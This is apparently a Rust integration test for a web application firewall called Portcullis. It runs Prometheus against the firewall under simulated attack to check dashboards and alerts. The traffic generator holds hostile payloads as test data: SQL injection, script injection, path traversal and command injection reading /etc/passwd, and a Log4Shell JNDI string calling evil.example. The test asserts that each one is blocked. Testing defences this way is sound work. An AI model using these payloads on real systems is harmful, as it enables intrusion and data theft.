@@ -1,0 +1,515 @@
+//! A real Prometheus looks at a real Portcullis under attack: its tools accept the configuration, alerts fire when they
+//! should, and every expression of every dashboard and alert has an answer.
+//!
+//! Needs Debian's package `prometheus`. Without it the tests say that they were skipped, unless
+//! `PORTCULLIS_REQUIRE_PROMETHEUS` is set. `PORTCULLIS_PICTURES=1` draws the dashboards into `docs/img`.
+
+#![cfg(all(feature = "server", unix))]
+
+#[path = "support/dashboards.rs"]
+mod dashboards;
+#[path = "support/picture.rs"]
+mod picture;
+
+use dashboards::{ALL, Dashboard};
+use picture::Series;
+use serde_json::Value;
+use std::collections::BTreeSet;
+use std::fs;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{SocketAddr, TcpListener, TcpStream};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+fn root() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+/// Whether Prometheus is installed; says so loudly when it is not.
+fn is_there() -> bool {
+    let found = ["prometheus", "promtool"]
+        .iter()
+        .all(|program| Command::new(program).arg("--version").output().is_ok_and(|o| o.status.success()));
+    if !found {
+        assert!(std::env::var_os("PORTCULLIS_REQUIRE_PROMETHEUS").is_none(), "prometheus is not installed");
+        // Past the test harness, which keeps what a test that passes prints.
+        let _ = writeln!(
+            std::io::stderr(),
+            "SKIPPED: prometheus is not installed (Debian's package `prometheus`)"
+        );
+    }
+    found
+}
+
+fn promtool(arguments: &[&str], input: Option<&str>) -> String {
+    let mut process = Command::new("promtool")
+        .args(arguments)
+        .current_dir(root())
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("promtool runs");
+    let mut stdin = process.stdin.take().expect("piped");
+    stdin.write_all(input.unwrap_or_default().as_bytes()).expect("taken");
+    drop(stdin);
+    let output = process.wait_with_output().expect("it ends");
+    let said = [output.stdout, output.stderr].concat();
+    let said = String::from_utf8_lossy(&said).into_owned();
+    assert!(output.status.success(), "promtool {arguments:?}:\n{said}");
+    said
+}
+
+#[test]
+fn promtool_accepts_configuration_and_rules() {
+    if !is_there() {
+        return;
+    }
+    promtool(&["check", "config", "config/prometheus/prometheus.yaml"], None);
+    promtool(&["check", "rules", "config/prometheus/recording.yaml", "config/prometheus/alerts.yaml"], None);
+}
+
+#[test]
+fn alerts_fire_when_they_should_and_only_then() {
+    if !is_there() {
+        return;
+    }
+    let said = promtool(&["test", "rules", "tests/suite/prometheus/alerts_test.yaml"], None);
+    assert!(said.contains("SUCCESS"), "{said}");
+    let tested = fs::read_to_string(root().join("tests/suite/prometheus/alerts_test.yaml")).expect("there");
+    for (name, _) in alerts() {
+        assert!(tested.contains(&format!("alertname: {name}\n")), "{name} has no test");
+    }
+}
+
+/// Names and expressions of the alerts.
+fn alerts() -> Vec<(String, String)> {
+    rules("config/prometheus/alerts.yaml", "alert")
+}
+
+fn rules(file: &str, kind: &str) -> Vec<(String, String)> {
+    let text = fs::read_to_string(root().join(file)).expect("there");
+    let file: serde_yaml::Value = serde_yaml::from_str(&text).expect("YAML");
+    let groups = file["groups"].as_sequence().expect("groups");
+    let rules = groups.iter().flat_map(|group| group["rules"].as_sequence().expect("rules"));
+    let text = |rule: &serde_yaml::Value, key: &str| rule[key].as_str().expect("a text").to_owned();
+    rules.map(|rule| (text(rule, kind), text(rule, "expr"))).collect()
+}
+
+/// Processes that end with the test.
+struct Killed(Child);
+
+impl Drop for Killed {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// An application that answers everything.
+fn origin() -> SocketAddr {
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bound");
+    let address = listener.local_addr().expect("an address");
+    std::thread::spawn(move || {
+        for stream in listener.incoming().map_while(Result::ok) {
+            std::thread::spawn(move || answer(stream));
+        }
+    });
+    address
+}
+
+fn answer(mut stream: TcpStream) {
+    let mut reader = BufReader::new(stream.try_clone().expect("cloned"));
+    loop {
+        let (mut line, mut length) = (String::new(), 0);
+        loop {
+            line.clear();
+            match reader.read_line(&mut line) {
+                Ok(0) | Err(_) => return,
+                Ok(_) if line == "\r\n" => break,
+                Ok(_) => {
+                    let value = line.to_ascii_lowercase();
+                    let value = value.strip_prefix("content-length:").and_then(|v| v.trim().parse().ok());
+                    length = value.unwrap_or(length);
+                }
+            }
+        }
+        let mut body = vec![0; length];
+        if reader.read_exact(&mut body).is_err() {
+            return;
+        }
+        let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 12\r\n\r\n";
+        if stream.write_all(format!("{head}<p>hello</p>").as_bytes()).is_err() {
+            return;
+        }
+    }
+}
+
+fn closed_port() -> SocketAddr {
+    TcpListener::bind("127.0.0.1:0").expect("bound").local_addr().expect("an address")
+}
+
+const TOKEN: &str = "a-token-of-the-tests";
+
+const PATCH: &str = "patch:
+  title: A flaw of the shop's own
+  product: shop
+  blocks: The word flaw in the argument p.
+  severity: error
+  owner: shop team
+  created: 2020-01-01
+  review_by: 2020-06-01
+
+rules:
+  - id: shop-flaw
+    description: The flaw
+    tags: attack-generic
+    when: {variables: 'ARGS:p', operator: '@streq flaw'}
+    matches: ['GET /?p=flaw']
+    passes: ['GET /?p=fine']
+";
+
+/// Sites with everything that dashboards and alerts ask for: one that blocks, with patches and a candidate; one that only
+/// detects; one that is switched off; one that nobody attacks; one whose application is away; one that holds too much.
+fn configuration(origin: SocketAddr) -> String {
+    format!(
+        "listeners:
+  - 127.0.0.1:0
+  - {{address: '127.0.0.2:0', proxy_protocol: true}}
+trusted_proxies: [127.0.0.1]
+admin: {{address: '127.0.0.1:0', token: {TOKEN}}}
+reload: {{watch: false}}
+client: {{held_bytes: 1MiB}}
+metrics: {{rule_cost_sample: 1}}
+audit:
+  log: audit.log
+  sinks: [{{name: away, to: 'tcp://{away}', queue: 5, retry: 1s}}, {{name: stuck, to: 'tcp://{away}', queue: 5}}]
+sites:
+  - name: shop
+    hosts: [shop.test]
+    upstreams: ['http://{origin}']
+    patches: [cve-2021-44228, shop-flaw.yaml]
+    access: [{{name: closed, paths: [/closed]}}]
+    directives: |
+      SecRequestBodyLimit 2048
+      SecRequestBodyLimitAction ProcessPartial
+    shadow:
+      sample: 100%
+      directives: |
+        SecRule ARGS:page \"@streq 7\" \"id:77,phase:2,deny,log,msg:'Seven'\"
+  - name: blog
+    hosts: [blog.test]
+    upstreams: ['http://{origin}']
+    mode: DetectionOnly
+    rules:
+      - text: |
+          SecRule ARGS:q \"@contains evil\" \"id:10,phase:1,deny,log,tag:'attack-generic',msg:'Evil'\"
+  - {{name: open, hosts: [open.test], upstreams: ['http://{origin}'], mode: 'Off'}}
+  - {{name: quiet, hosts: [quiet.test], upstreams: ['http://{origin}']}}
+  - {{name: away, hosts: [away.test], upstreams: ['http://{away}'], balance: {{max_fails: 0}}}}
+  - name: files
+    hosts: [files.test]
+    upstreams: ['http://{origin}']
+    directives: |
+      SecRequestBodyLimit 10000000
+      SecRequestBodyNoFilesLimit 10000000
+",
+        away = closed_port(),
+    )
+}
+
+/// One request on a connection of its own: what came back.
+fn ask(address: SocketAddr, request: &str) -> String {
+    let Ok(mut stream) = TcpStream::connect(address) else { return String::new() };
+    let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
+    // A request may be refused before it was sent as a whole.
+    let _ = stream.write_all(request.as_bytes());
+    let mut answer = Vec::new();
+    let _ = stream.read_to_end(&mut answer);
+    String::from_utf8_lossy(&answer).into_owned()
+}
+
+fn get(address: SocketAddr, host: &str, path: &str) -> String {
+    ask(
+        address,
+        &format!(
+            "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n\r\n"
+        ),
+    )
+}
+
+fn reload(admin: SocketAddr) -> String {
+    ask(
+        admin,
+        &format!(
+            "POST /api/reload HTTP/1.1\r\nHost: {admin}\r\nAuthorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n"
+        ),
+    )
+}
+
+/// Some of everything; `attacks` of each kind.
+fn traffic(proxy: SocketAddr, tick: usize, attacks: usize) {
+    for page in 0..6 {
+        assert!(get(proxy, "shop.test", &format!("/?page={}", page + tick % 3)).contains("hello"));
+    }
+    assert!(get(proxy, "open.test", "/").contains("hello"));
+    get(proxy, "away.test", "/");
+    get(proxy, "away.test", "/again");
+    for _ in 0..attacks {
+        for path in [
+            "/?q=1%27%20OR%20%271%27=%271%27--%20",
+            "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+            "/?file=../../../../etc/passwd",
+            "/?x=%24%7Bjndi:ldap://evil.example/a%7D",
+            "/?p=flaw",
+            "/?cmd=;cat%20/etc/passwd",
+        ] {
+            let answer = get(proxy, "shop.test", path);
+            assert!(answer.starts_with("HTTP/1.1 403"), "{path}: {answer}");
+        }
+        assert!(get(proxy, "blog.test", "/?q=evil").contains("hello"));
+    }
+    if tick.is_multiple_of(5) {
+        let post = |host: &str, length: usize| {
+            let head = format!(
+                "POST /up HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n"
+            );
+            ask(proxy, &format!("{head}a={}", "b".repeat(length - 2)))
+        };
+        post("shop.test", 6_000);
+        post("files.test", 1_500_000);
+        ask(proxy, "GET / HTTP/1.1\r\nHost: shop.test\r\nHost: blog.test\r\n\r\n");
+        get(proxy, "shop.test", "/closed");
+    }
+}
+
+/// More than a thousand requests that nobody could object to, over one connection.
+fn quiet(proxy: SocketAddr) {
+    let stream = TcpStream::connect(proxy).expect("connected");
+    let mut reader = BufReader::new(stream.try_clone().expect("cloned"));
+    let mut stream = stream;
+    for _ in 0..1_200 {
+        let head = "GET / HTTP/1.1\r\nHost: quiet.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n";
+        stream.write_all(head.as_bytes()).expect("sent");
+        let (mut line, mut length) = (String::new(), 0);
+        while line != "\r\n" {
+            line.clear();
+            assert_ne!(reader.read_line(&mut line).expect("answered"), 0);
+            let lower = line.to_ascii_lowercase();
+            length =
+                lower.strip_prefix("content-length:").and_then(|v| v.trim().parse().ok()).unwrap_or(length);
+        }
+        reader.read_exact(&mut vec![0; length]).expect("the body");
+    }
+}
+
+fn now() -> f64 {
+    SystemTime::now().duration_since(UNIX_EPOCH).expect("after 1970").as_secs_f64()
+}
+
+/// What Prometheus answers for each second between two times.
+fn query(prometheus: SocketAddr, expression: &str, from: f64, to: f64) -> Result<Vec<Value>, String> {
+    let output = Command::new("curl")
+        .args(["-s", "-G", &format!("http://{prometheus}/api/v1/query_range")])
+        .args(["--data-urlencode", &format!("query={expression}")])
+        .args(["-d", &format!("start={from:.0}"), "-d", &format!("end={to:.0}"), "-d", "step=1"])
+        .output()
+        .expect("curl runs");
+    let answer: Value = serde_json::from_slice(&output.stdout).map_err(|e| e.to_string())?;
+    match answer["data"]["result"].as_array() {
+        Some(result) if answer["status"] == "success" => Ok(result.clone()),
+        _ => Err(answer.to_string()),
+    }
+}
+
+/// What Grafana puts in the place of its variables, for a minute at which is looked each second.
+fn substituted(expression: &str) -> String {
+    expression.replace("$__rate_interval", "8s").replace("$__range", "60s").replace("$site", ".*")
+}
+
+fn series(result: &[Value], legend: &str) -> Vec<Series> {
+    let one = |series: &Value| {
+        let mut name = legend.to_owned();
+        for (label, value) in series["metric"].as_object().into_iter().flatten() {
+            name = name.replace(&format!("{{{{{label}}}}}"), value.as_str().unwrap_or_default());
+        }
+        let number = |v: &Value| v.as_str().and_then(|v| v.parse().ok()).or(v.as_f64()).unwrap_or(f64::NAN);
+        let values = series["values"].as_array().into_iter().flatten();
+        Series { legend: name, points: values.map(|v| (number(&v[0]), number(&v[1]))).collect() }
+    };
+    result.iter().map(one).collect()
+}
+
+fn panels(
+    dashboard: &Dashboard,
+    prometheus: SocketAddr,
+    from: f64,
+    to: f64,
+    faults: &mut Vec<String>,
+) -> Vec<Vec<Series>> {
+    let mut all = Vec::new();
+    for (panel, _) in dashboard.places() {
+        let mut shown = Vec::new();
+        for (expression, legend) in panel.queries {
+            let found = match query(prometheus, &substituted(expression), from, to) {
+                Ok(result) => series(&result, legend),
+                Err(error) => {
+                    faults.push(format!("{}, {}: {error}", dashboard.title, panel.title));
+                    continue;
+                }
+            };
+            let numbers = found.iter().flat_map(|s| &s.points).filter(|p| p.1.is_finite()).count();
+            if numbers == 0 {
+                faults.push(format!("{}, {}: no data: {expression}", dashboard.title, panel.title));
+            }
+            shown.extend(found);
+        }
+        all.push(shown);
+    }
+    all
+}
+
+#[test]
+fn every_panel_and_alert_has_data_under_attack() {
+    if !is_there() {
+        return;
+    }
+    let directory = tempfile::tempdir().expect("a directory");
+    let path = |name: &str| directory.path().join(name);
+    let configuration = configuration(origin());
+    fs::write(path("portcullis.yaml"), &configuration).expect("written");
+    fs::write(path("shop-flaw.yaml"), PATCH).expect("written");
+    let (_portcullis, proxy, secured, admin) = portcullis(&path("portcullis.yaml"));
+    let (_prometheus, prometheus) = prometheus(directory.path(), admin);
+
+    let from = now();
+    // Counters show before they grow, and the usual rate comes before the surge.
+    for tick in 0..20 {
+        traffic(proxy, tick, usize::from(tick % 4 == 0));
+        std::thread::sleep(Duration::from_millis(150));
+    }
+    quiet(proxy);
+    assert!(reload(admin).contains("unchanged"));
+    fs::write(path("portcullis.yaml"), format!("{configuration}# changed\n")).expect("written");
+    assert!(reload(admin).contains("success"));
+    for tick in 0..40 {
+        traffic(proxy, tick, 4);
+        ask(secured, "no PROXY header\r\n\r\n");
+        if tick == 20 {
+            fs::write(path("portcullis.yaml"), format!("{configuration}nonsense: true\n")).expect("written");
+            assert!(reload(admin).contains("refused"));
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    // The last scrapes and evaluations.
+    std::thread::sleep(Duration::from_secs(4));
+    let to = now();
+
+    let mut faults = Vec::new();
+    let pictures = std::env::var_os("PORTCULLIS_PICTURES").is_some();
+    for dashboard in ALL {
+        let data = panels(dashboard, prometheus, from, to, &mut faults);
+        if pictures {
+            let name = dashboard.file.replace(".json", ".svg");
+            let file = root().join(format!("docs/img/dashboard-{name}"));
+            fs::write(file, picture::draw(dashboard, &data, from, to)).expect("written");
+        }
+    }
+    for (name, _) in rules("config/prometheus/recording.yaml", "record") {
+        if query(prometheus, &name, from, to).is_ok_and(|found| found.is_empty()) {
+            faults.push(format!("{name} is not recorded"));
+        }
+    }
+    for (name, expression) in alerts() {
+        // A minute stands for what is minutes and hours elsewhere, and no inspection takes 50 ms; everything else is
+        // provoked as it is.
+        let expression = expression.replace("[15m]", "[20s]").replace("[5m]", "[20s]");
+        let expression = match name.as_str() {
+            "PortcullisAttackSurge" => expression.replace("offset 1h", "offset 8s"),
+            "PortcullisSlowInspection" => expression.replace("> 0.05", "> 0"),
+            _ => expression,
+        };
+        match query(prometheus, &expression, from, to) {
+            Ok(found) if !found.is_empty() => {}
+            Ok(_) => faults.push(format!("{name} does not show: {expression}")),
+            Err(error) => faults.push(format!("{name}: {error}")),
+        }
+    }
+    let text = ask(admin, &format!("GET /metrics HTTP/1.1\r\nHost: {admin}\r\nConnection: close\r\n\r\n"));
+    let (_, text) = text.split_once("\r\n\r\n").expect("an answer");
+    assert!(faults.is_empty(), "{} of:\n{}\n{text}", faults.len(), faults.join("\n"));
+    promtool(&["check", "metrics"], Some(text));
+}
+
+/// Portcullis itself: its two listeners and the admin listener.
+fn portcullis(configuration: &Path) -> (Killed, SocketAddr, SocketAddr, SocketAddr) {
+    let mut process = Command::new(env!("CARGO_BIN_EXE_portcullis"))
+        .args(["run", "-c"])
+        .arg(configuration)
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("started");
+    let mut lines = BufReader::new(process.stderr.take().expect("piped")).lines().map_while(Result::ok);
+    let process = Killed(process);
+    let mut said = Vec::new();
+    let mut listeners = Vec::new();
+    let admin = loop {
+        let line = lines.next().unwrap_or_else(|| panic!("it ended:\n{}", said.join("\n")));
+        if let Some(address) = line.strip_prefix("listening on ") {
+            listeners.push(address.parse().expect("an address"));
+        } else if let Some(address) = line.strip_prefix("admin on http://") {
+            break address.trim_end_matches('/').parse().expect("an address");
+        }
+        said.push(line);
+    };
+    // Read on, so that it can write on.
+    std::thread::spawn(move || lines.for_each(drop));
+    (process, listeners[0], listeners[1], admin)
+}
+
+/// Prometheus with the rules as they are delivered, but once a second, and with a second instance that is down.
+fn prometheus(directory: &Path, admin: SocketAddr) -> (Killed, SocketAddr) {
+    for file in ["recording.yaml", "alerts.yaml"] {
+        fs::copy(root().join("config/prometheus").join(file), directory.join(file)).expect("copied");
+    }
+    let configuration = format!(
+        "global: {{scrape_interval: 1s, evaluation_interval: 1s}}
+rule_files: [recording.yaml, alerts.yaml]
+scrape_configs:
+  - job_name: portcullis
+    static_configs: [{{targets: ['{admin}', '{}']}}]
+",
+        closed_port()
+    );
+    let file = directory.join("prometheus.yaml");
+    fs::write(&file, configuration).expect("written");
+    let address = closed_port();
+    let log = fs::File::create(directory.join("prometheus.log")).expect("created");
+    let process = Command::new("prometheus")
+        .arg(format!("--config.file={}", file.display()))
+        .arg(format!("--storage.tsdb.path={}", directory.join("data").display()))
+        .arg(format!("--web.listen-address={address}"))
+        .stdout(Stdio::null())
+        .stderr(log)
+        .spawn()
+        .expect("started");
+    let process = Killed(process);
+    let begun = Instant::now();
+    while query(address, "up", now() - 5.0, now()).map_or(true, |found| found.is_empty()) {
+        let log = || fs::read_to_string(directory.join("prometheus.log")).unwrap_or_default();
+        assert!(begun.elapsed() < Duration::from_secs(30), "prometheus does not scrape:\n{}", log());
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    (process, address)
+}
+
+/// Names of recorded series and alerts are each given once.
+#[test]
+fn names_of_rules_are_given_once() {
+    let mut names = BTreeSet::new();
+    let all = rules("config/prometheus/recording.yaml", "record").into_iter().chain(alerts());
+    for (name, _) in all {
+        assert!(names.insert(name.clone()), "{name} is there twice");
+    }
+}
